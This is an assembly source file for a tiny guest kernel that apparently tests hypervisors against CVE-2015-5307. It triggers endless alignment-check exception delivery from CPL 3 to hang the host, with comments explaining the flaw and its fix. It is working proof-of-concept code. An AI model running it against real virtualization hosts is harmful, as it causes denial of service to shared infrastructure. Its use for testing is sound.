; The endless #AC delivery (CVE-2015-5307).
;
; An alignment check counts only at CPL 3, with CR0.AM = 1 and EFLAGS.AC = 1. The #AC gate leads to a code segment
; of DPL 3, so delivery changes neither privilege nor stack: the CPU pushes EFLAGS, CS, EIP and the error code
; at CPL 3 onto a misaligned stack. That push raises #AC, and #AC while delivering #AC is a benign pair (no #DF):
; it is delivered again, and so on. There is no instruction boundary in between, so no interrupt gets in, not even
; one meant for the monitor: the host hangs too. The monitor's only remedy is to intercept #AC (exception bitmap bit 17).
;
; In 64-bit mode this cannot happen: delivery aligns RSP to 16 bytes before it pushes. So we stay in 32-bit mode.
; A machine without alignment checks runs on and says so (exit code 1 or 2).

MAGIC   equ 0x1BADB002
CODE0   equ 0x08
DATA0   equ 0x10
CODE3   equ 0x18 | 3
DATA3   equ 0x20 | 3
AC      equ 17
IOPL3   equ 3 << 12                     ; so that the messages can use the ports at CPL 3
FLAG_AC equ 1 << 18
CR0_AM  equ 1 << 18

section .multiboot
        align 4
        dd MAGIC, 0, -MAGIC

section .text
bits 32
global _start
_start: mov     esp, stack0_top
        lgdt    [gdtr]
        jmp     CODE0:.reload
.reload:
        mov     eax, DATA0
        mov     ss, eax
        mov     eax, DATA3              ; usable at CPL 0 as well as at CPL 3
        mov     ds, eax
        mov     es, eax

        mov     eax, on_ac              ; the one gate: 32-bit interrupt gate, DPL 0, into CODE3
        mov     [idt + AC * 8], ax
        mov     word [idt + AC * 8 + 2], CODE3
        mov     word [idt + AC * 8 + 4], 0x8E00
        shr     eax, 16
        mov     [idt + AC * 8 + 6], ax
        lidt    [idtr]

        mov     eax, cr0
        or      eax, CR0_AM
        mov     cr0, eax

        push    DATA3
        push    stack3_top - 2          ; misaligned
        push    IOPL3 | FLAG_AC | 2
        push    CODE3
        push    user
        iretd

user:   mov     esi, arming
        mov     edi, .armed             ; print returns through EDI: a call would already fault
        jmp     print
.armed: push    eax                     ; misaligned: #AC, for ever
        mov     esi, no_check
        mov     edi, .leave
        jmp     print
.leave: mov     al, 2
        out     0xF4, al
        jmp     $

on_ac:  mov     esi, reached            ; an endless delivery never comes here
        mov     edi, .leave
        jmp     print
.leave: mov     al, 1
        out     0xF4, al
        jmp     $

; Prints the string at ESI and jumps to EDI.
print:  mov     dx, 0x3FD               ; line status register
.wait:  in      al, dx
        test    al, 1 << 5              ; transmitter holding register empty?
        jz      .wait
        lodsb
        test    al, al
        jz      .done
        mov     dx, 0x3F8
        out     dx, al
        jmp     print
.done:  jmp     edi

section .rodata
arming:   db "loop-ac: a misaligned push at CPL 3 starts the endless #AC", 10, 0
no_check: db "loop-ac: execution went on after the push, no alignment check here", 10, 0
reached:  db "loop-ac: the handler was reached, its frame was pushed without a check", 10, 0

        align 8
gdtr:   dw 5 * 8 - 1
        dd gdt
idtr:   dw 32 * 8 - 1
        dd idt

section .data
        align 8
gdt:    dq 0                            ; in .data: the CPU sets the accessed bits
        dq 0x00CF9A000000FFFF           ; CODE0
        dq 0x00CF92000000FFFF           ; DATA0
        dq 0x00CFFA000000FFFF           ; CODE3
        dq 0x00CFF2000000FFFF           ; DATA3

section .bss
        alignb 16
idt:    resq 32
        resb 1024
stack0_top:
        resb 1024
stack3_top:
